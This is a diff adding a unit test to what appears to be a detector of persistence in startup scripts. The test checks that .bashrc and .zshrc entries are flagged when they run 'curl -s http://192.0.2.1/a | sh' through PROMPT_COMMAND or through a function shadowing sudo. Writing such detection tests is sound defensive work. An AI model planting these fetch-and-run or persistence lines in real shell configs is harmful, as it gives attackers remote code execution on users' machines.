@@ -115,3 +115,14 @@ it("sees what Windows will open at every logon as somebody puts it there", () =>
   expect(put(`${startup}\\desktop.ini`)).toBeUndefined();
   expect(put("C:\\Users\\a\\Desktop\\a.hta")).toBeUndefined();
 });
+
+it("sees what a shell that starts will run before each prompt, and in the place of a program", () => {
+  const read = (name: string, text: string) =>
+    findingsOf([
+      anEvent("commandExecution", 0, { platform: "linux", text, dialect: "sh", origin: "startupScript", name }),
+    ]).flatMap(({ runs }) => runs.map(({ value }) => value));
+  const [address, fetched] = ["http://192.0.2.1/a", "curl -s http://192.0.2.1/a | sh"];
+  expect(read(".bashrc", `PROMPT_COMMAND="${fetched}"`)).toContain(address);
+  expect(read(".zshrc", `sudo() { ${fetched}; }`)).toContain(address);
+  expect(read(".zshrc", `PROMPT_COMMAND='history -a'`)).toEqual([]);
+});
